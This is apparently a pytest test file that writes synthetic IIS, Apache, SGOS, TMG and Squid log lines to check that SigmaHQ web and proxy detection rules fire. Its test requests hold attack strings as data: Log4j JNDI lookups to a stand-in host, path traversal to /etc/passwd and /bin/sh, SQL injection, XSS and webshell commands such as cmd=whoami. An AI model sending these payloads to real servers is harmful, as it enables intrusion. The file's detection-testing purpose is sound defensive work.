"""SigmaHQ's rules for web servers and proxies fire on requests of the attacks they are for, however these are logged.

The requests are ours, written after what each rule says it looks for.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

import pytest

from corpus.pack import Pack
from tocsin import collect


class Request(NamedTuple):
    """What a client asked for; '' for what it did not say."""

    path: str
    query: str = ""
    agent: str = "Mozilla/5.0 (X11; Linux x86_64)"
    method: str = "GET"
    status: int = 200
    referer: str = ""
    host: str = "www.parliament.example"


IIS = """#Software: Microsoft Internet Information Services 10.0
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) \
cs-host sc-status sc-substatus sc-win32-status time-taken
"""
SGOS = """#Software: SGOS 7.3.8.1
#Fields: date time time-taken c-ip cs-username s-supplier-ip cs(Referer) sc-status s-action cs-method \
rs(Content-Type) cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query cs-uri-extension cs(User-Agent) \
sc-bytes cs-bytes
"""
TMG = """#Software: Microsoft Forefront Threat Management Gateway
#Fields: c-ip cs-username c-agent date time cs-referred r-host r-ip s-operation cs-uri cs-mime-type sc-status
"""


def iis(r: Request) -> str:
    agent, referer = (text.replace(" ", "+") or "-" for text in (r.agent, r.referer))
    asked = f"{r.method} {r.path.replace(' ', '+')} {r.query or '-'}"
    return f"2026-08-01 00:00:01 192.0.2.1 {asked} 443 - 203.0.113.5 {agent} {referer} {r.host} {r.status} 0 0 1\n"


def combined(r: Request) -> str:
    asked = f"{r.method} {r.path}{'?' if r.query else ''}{r.query} HTTP/1.1"
    told = f'"{r.referer or "-"}" "{r.agent or "-"}"'
    return f'203.0.113.5 - - [01/Aug/2026:00:00:01 +0000] "{asked}" {r.status} 5 {told}\n'


def sgos(r: Request) -> str:
    extension = r.path.rpartition(".")[2] if "." in r.path else "-"
    asked = f"http {r.host} 80 {r.path} {'?' if r.query else '-'}{r.query} {extension}"
    agent, referer = (f'"{text}"' if text else "-" for text in (r.agent, r.referer))
    told = f"{referer} {r.status} TCP_NC_MISS {r.method} text/html"
    return f"2026-08-01 00:00:01 9 10.0.0.7 - 203.0.113.4 {told} {asked} {agent} 9 9\n"


def tmg(r: Request) -> str:
    url = f"http://{r.host}{r.path}{'?' if r.query else ''}{r.query}"
    told = [r.host, "203.0.113.4", r.method, url, "text/html", str(r.status)]
    return "\t".join(["10.0.0.7", "-", r.agent or "-", "2026-08-01", "00:00:01", r.referer or "-", *told]) + "\n"


def squid(r: Request) -> str:
    url = f"http://{r.host}{r.path}{'?' if r.query else ''}{r.query}"
    told = f'HIER_DIRECT/203.0.113.4 text/html "{r.referer or "-"}" "{r.agent or "-"}"'
    return f"1785542401.123      9 10.0.0.7 TCP_MISS/{r.status} 9 {r.method} {url} - {told}\n"


Render = Callable[[Request], str]
SERVERS: Mapping[str, tuple[str, Render]] = {"iis": (IIS, iis), "access_log": ("", combined)}
PROXIES: Mapping[str, tuple[str, Render]] = {"w3c_proxy": (SGOS, sgos), "tmg": (TMG, tmg), "squid": ("", squid)}
TRIDENT = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
UPDATE = "lng=en&ver=2-5-3499&beta=n&type=upd&rmode=p&product=aips"

ON_SERVERS: Mapping[str, Request] = {
    "CVE-2020-0688 Exploitation Attempt": Request("/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B&__VIEWSTATE=x"),
    "CVE-2021-21972 VSphere Exploitation": Request("/ui/vropspluginui/rest/services/uploadova", method="POST"),
    "CVE-2021-41773 Exploitation Attempt": Request("/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
    "CVE-2024-1709 - ScreenConnect Authentication Bypass Exploitation": Request("/SetupWizard.aspx/x"),
    "Cross Site Scripting Strings": Request("/a", "q=<script>prompt(1)</script>"),
    "Exchange Exploitation Used by HAFNIUM": Request(
        "/owa/auth/Current/themes/resources/a.aspx", agent="python-requests/2.31.0", method="POST"
    ),
    "F5 BIG-IP iControl Rest API Command Execution - Webserver": Request("/mgmt/tm/util/bash", method="POST"),
    "JNDIExploit Pattern": Request("/a", "x=${jndi:ldap://127.0.0.1/Basic/Command/Base64/aWQ=}"),
    "Log4j RCE CVE-2021-44228 in Fields": Request("/a", agent="${jndi:ldap://x.example/a}"),
    "Path Traversal Exploitation Attempts": Request("/a", "f=../../../../etc/passwd"),
    "Potential SAP NetViewer Webshell Command Execution": Request("/irj/a.jsp", "cmd=id"),
    "SQL Injection Strings In URI": Request("/a", "q=1%20UNION%20SELECT%201"),
    "Source Code Enumeration Detection by Keyword": Request("/.git/config"),
    "Successful Exchange ProxyShell Attack": Request(
        "/autodiscover/autodiscover.json",
        "@foo.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.example",
    ),
    "Successful IIS Shortname Fuzzing Scan": Request("/bin~1/a.aspx"),
    "Suspicious User-Agents Related To Recon Tools": Request(
        "/", agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)"
    ),
    "Webshell ReGeorg Detection Via Web Logs": Request("/t.php", "cmd=read", agent="", method="POST"),
    "Windows Webshell Strings": Request("/up/x.aspx", "cmd=whoami"),
}
ON_PROXIES: Mapping[str, Request] = {
    ".Class Extension URI Ending Request": Request("/x.class", agent="Java/1.8.0_181"),
    "Chafer Malware URL Pattern": Request("/asp.asp", "ui=1"),
    "Cisco ASA Exploitation Activity - Proxy": Request("/+CSCOL+/csvrloader64.cab"),
    "Download From Suspicious TLD - Blacklist": Request("/a.exe", host="x.download"),
    "Flash Player Update from Suspicious Location": Request("/flash_install.php"),
    "HTTP Request With Empty User Agent": Request("/x", agent=""),
    "Hack Tool User Agent": Request("/x", agent="sqlmap/1.0"),
    "HackTool - CobaltStrike Malleable Profile Patterns - Proxy": Request(
        "/N4215/adj/amzn.us.sr.aps", agent=TRIDENT, method="POST", host="www.amazon.com"
    ),
    "HackTool - Empire UserAgent URI Combo": Request("/admin/get.php", agent=TRIDENT, method="POST"),
    "PUA - Advanced IP/Port Scanner Update Check": Request("/checkupdate.php", UPDATE),
    "Potential OWASSRF Exploitation Attempt - Proxy": Request("/owa/x@y/powershell", method="POST"),
    "Raw Paste Service Access": Request("/raw/abc", host="www.pastebin.com"),
    "Suspicious External WebDAV Execution": Request("/x.lnk", agent="Microsoft-WebDAV-MiniRedir/10.0.19041"),
    "Telegram API Access": Request("/bot1/sendMessage", "chat_id=1", host="api.telegram.org"),
    "Windows PowerShell User Agent": Request("/a", agent="Mozilla/5.0 (en-US) WindowsPowerShell/5.1.19041"),
}
CASES = [
    (title, form, opening, render(request))
    for wanted, forms in ((ON_SERVERS, SERVERS), (ON_PROXIES, PROXIES))
    for title, request in wanted.items()
    for form, (opening, render) in forms.items()
]


def fired(pack: Pack, log: Path) -> set[str]:
    """The titles of the rules that fire on a log."""
    rules = pack.detector.rules
    return {
        rules.rules[rules.variants[place].rule].title
        for events in collect.read(log, pack.projection)
        for place, rows in pack.detector.scan(events).rows
        if len(rows)
    }


@pytest.mark.parametrize("case", CASES, ids=[f"{case[1]}-{case[0]}" for case in CASES])
@pytest.mark.parametrize("repeated", [1, 40], ids=["one by one", "by columns"])
def test_a_rule_fires(case: tuple[str, str, str, str], repeated: int, pack: Pack, tmp_path: Path) -> None:
    title, _, opening, line = case
    (tmp_path / "x.log").write_text(opening + line * repeated, encoding="utf-8")
    assert title in fired(pack, tmp_path / "x.log")


def test_usual_requests_fire_nothing(pack: Pack, tmp_path: Path) -> None:
    usual = [Request("/"), Request("/news.php", "id=4&page=2"), Request("/img/crest.png", status=304)]
    for form, (opening, render) in {**SERVERS, **PROXIES}.items():
        (tmp_path / form).write_text(opening + "".join(map(render, usual)), encoding="utf-8")
        assert not fired(pack, tmp_path / form)


@pytest.mark.parametrize(
    ("title", "line"),
    [
        ("Nginx Core Dump", "2026/08/01 09:00:02 [alert] 1#1: worker process 12 exited on signal 6 (core dumped)"),
        (
            "Apache Segmentation Fault",
            "[Sat Aug 01 09:00:01.01 2026] [core:notice] [pid 4] AH00052: child pid 9 exit signal Segmentation Fault",
        ),
    ],
)
def test_error_logs_are_searched(title: str, line: str, pack: Pack, tmp_path: Path) -> None:
    (tmp_path / "error.log").write_text(line + "\n", encoding="utf-8")
    assert title in fired(pack, tmp_path / "error.log")
